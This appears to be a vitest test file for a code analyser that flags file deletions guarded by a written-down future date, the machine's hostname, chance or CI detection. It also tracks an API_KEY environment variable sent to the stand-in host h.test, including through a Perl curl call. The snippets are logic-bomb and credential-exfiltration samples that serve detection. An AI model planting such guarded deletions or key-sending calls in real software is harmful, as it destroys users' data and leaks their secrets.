// Branches of languages without a grammar: what is done in one hangs on what it asks, and on nothing another asks.
import { beforeAll, describe, expect, it } from 'vitest';
import type { PathFact } from '../../src/model/fact.ts';
import { prepare, run } from '../../test/analysis/code/harness.ts';

beforeAll(prepare);

/** What is deleted, and what that hangs on. */
const deletes = (ending: string, text: string) =>
  run({ [`a.${ending}`]: text })
    .of<PathFact>('path')
    .filter((one) => one.access === 'delete')
    .map((one) => `${one.path}: ${(one.guard ?? []).join('+')}`);

describe('what is done hangs on a day that is written down', () => {
  it.each([
    ['go', 'if time.Now().After(time.Date(2031, 3, 1, 0, 0, 0, 0, time.UTC)) {\n\tos.Remove("a")\n}'],
    ['go', 'if time.Since(time.Unix(1924992000, 0)) > 0 {\n\tos.Remove("a")\n}'],
    ['go', 'if now := time.Now(); now.Year() >= 2031 {\n\tos.Remove("a")\n}'],
    ['go', 'if time.Now().Format("20060102") < "20310301" {\n\treturn\n}\nos.Remove("a")'],
    ['go', 'if small {\n\tfmt.Println(1)\n} else if time.Now().Unix() > 1924992000 {\n\tos.Remove("a")\n}'],
    ['rb', "if Time.now > Time.utc(2031, 3, 1)\n  File.delete('a')\nend"],
    ['rb', "File.delete('a') if Date.today >= Date.new(2031, 3, 1)"],
    ['rb', "File.delete('a') unless Time.now.year < 2031"],
    ['rb', "def tidy\n  return if Time.now.to_i < 1_924_992_000\n  File.delete('a')\nend\ntidy"],
    ['rb', "if ARGV.empty?\n  puts 1\nelsif Time.now > Time.parse('2031-03-01')\n  File.delete('a')\nend"],
    ['pl', 'unlink "a" if time > 1_924_992_000;'],
    ['pl', 'if ($apply && (localtime)[5] + 1900 >= 2031) { unlink "a"; }'],
    ['pl', 'use POSIX; exit unless strftime("%Y%m%d", localtime) ge "20310301";\nunlink "a";'],
    ['pl', 'if (time >= timelocal(0, 0, 0, 1, 2, 2031)) { unlink "a"; }'],
    ['php', "<?php if (time() > strtotime('2031-03-01')) unlink('a');"],
    ['php', "<?php if (date('Ymd') >= '20310301') { unlink('a'); }"],
    ['php', "<?php if (date('Y') >= 2031) { unlink('a'); }"],
    ['php', "<?php\nif (new DateTime() < new DateTime('2031-03-01')) exit;\nunlink('a');"],
    ['php', "<?php if (date('Ymd') >= '20310301') { array_map('unlink', ['a']); }"],
    ['php', "<?php if (time() > mktime(0, 0, 0, 3, 1, 2031)) { unlink('a'); }"],
    ['java', 'if (LocalDate.now().isAfter(LocalDate.of(2031, 3, 1))) { Files.delete(Paths.get("a")); }'],
    ['cs', 'if (DateTime.Now > new DateTime(2031, 3, 1)) File.Delete("a");'],
    ['lua', 'if os.time() > 1924992000 then os.remove("a") end'],
    ['go', 'for _, n := range all {\n\tif time.Now().Unix() < 1924992000 {\n\t\tcontinue\n\t}\n\tos.Remove("a")\n}'],
    ['rb', "ARGV.each do |n|\n  next if Date.today < Date.new(2031, 3, 1)\n  File.delete('a')\nend"],
    ['pl', 'for my $n (@ARGV) {\n  next if time < 1_924_992_000;\n  unlink "a";\n}'],
    [
      'pl',
      'my @t = localtime;\nunlink "a" unless sprintf("%04d%02d%02d", $t[5] + 1900, $t[4] + 1, $t[3]) lt "20310301";',
    ],
    ['php', "<?php foreach ($argv as $n) { if (date('Ymd') < '20310301') { continue; } unlink('a'); }"],
  ])('%s: %s', (ending, text) => {
    expect(deletes(ending, text)).toEqual(['a: clock+date']);
  });

  // Kept once a month or a day: whether a file of today's name is there says nothing of the day.
  it.each([
    ['rb', 'old = "log-#{Time.now.strftime(\'%Y%m\')}.csv"\nFile.delete("a") unless File.exist?(old)'],
    ['php', "<?php if (!file_exists('log-' . date('Ymd'))) { unlink('a'); }"],
    ['go', 'if _, err := os.Stat(time.Now().Format("20060102")); err != nil {\n\tos.Remove("a")\n}'],
  ])('nor on whether there is a file of today: %s', (ending, text) => {
    expect(deletes(ending, text)).toEqual(['a: ']);
  });

  it('where another function answers', () => {
    const text =
      'var day = time.Date(2031, 3, 1, 0, 0, 0, 0, time.UTC)\nfunc due() bool { return time.Now().After(day) }\nfunc main() {\n\tif !due() {\n\t\treturn\n\t}\n\tos.Remove("a")\n}';
    expect(deletes('go', text)).toEqual(['a: clock+date']);
  });

  it('where a function is called that does it', () => {
    const text =
      'func drop(p string) {\n\tos.Remove(p)\n}\nfunc main() {\n\tif time.Now().Unix() > 1924992000 {\n\t\tdrop("a")\n\t}\n}';
    expect(deletes('go', text)).toEqual(['a: clock+date']);
  });
});

describe('what is done hangs on no such day', () => {
  it.each([
    ['behind the branch', 'rb', "puts 'late' if Time.now > Time.utc(2031, 3, 1)\nFile.delete('a')", 'a: '],
    [
      'in the next function',
      'pl',
      'sub one { return if time < 1_924_992_000; print 1 }\nsub two { unlink "a" }',
      'a: ',
    ],
    [
      'by the age of a file',
      'go',
      'i, _ := os.Stat("a")\nif time.Since(i.ModTime()) > week {\n\tos.Remove("a")\n}',
      'a: clock',
    ],
    [
      'with the next one',
      'rb',
      "list.each do |n|\n  next if Date.today < Date.new(2031, 3, 1)\n  puts n\nend\nFile.delete('a')",
      'a: ',
    ],
    ['a function that is called so', 'php', "<?php if (time() > 1924992000) { next($all); }\nunlink('a');", 'a: '],
    ['by the hour', 'php', "<?php if (date('H') > 20) unlink('a');", 'a: clock'],
    ['a key of that name', 'pl', 'if ($row->{time} > 1_924_992_000) { unlink "a"; }', 'a: '],
  ])('%s', (_, ending, text, told) => {
    expect(deletes(ending, text)).toEqual([told]);
  });
});

describe('what is done hangs on the machine, or on chance', () => {
  it.each([
    ['go', 'h, _ := os.Hostname()\nif strings.HasPrefix(h, "build") {\n\tos.Remove("a")\n}', 'a: identity'],
    ['rb', "return unless Socket.gethostname == 'desk'\nFile.delete('a')", 'a: identity'],
    ['php', "<?php if (gethostname() === 'desk') { unlink('a'); }", 'a: identity'],
    ['pl', 'unlink "a" if rand() < 0.02;', 'a: random'],
    ['rb', "File.delete('a') if rand < 0.02", 'a: random'],
    ['php', "<?php if (mt_rand(0, 40) === 7) { unlink('a'); }", 'a: random'],
    ['rb', "File.delete('a') unless ENV['CI']", 'a: watched'],
  ])('%s: %s', (ending, text, told) => {
    expect(deletes(ending, text)).toEqual([told]);
  });
});

describe('values in branches', () => {
  it('what is set before it is asked is known in it', () => {
    const text =
      'if key := os.Getenv("API_KEY"); key != "" {\n\thttp.Post("https://h.test", "", strings.NewReader(key))\n}';
    expect(
      run({ 'a.go': text })
        .flows()
        .some((one) => one.from.includes('env:API_KEY')),
    ).toBe(true);
  });

  it('what a branch gives back is what the function gives', () => {
    const text =
      "def key\n  if ENV['API_KEY']\n    ENV['API_KEY']\n  else\n    ''\n  end\nend\nNet::HTTP.post(URI('https://h.test'), key)";
    const flows = run({ 'a.rb': text }).flows();
    expect(flows.some((one) => one.from.includes('env:API_KEY') && one.host === 'h.test')).toBe(true);
  });

  it('what Perl takes off in a branch is taken off', () => {
    const text =
      'sub go { my $a = shift; if ($a) { my $b = shift; system("curl -d $b https://h.test"); } }\ngo(1, $ENV{API_KEY});';
    const flows = run({ 'a.pl': text }).flows();
    expect(flows.some((one) => one.from.includes('env:API_KEY'))).toBe(true);
  });
});
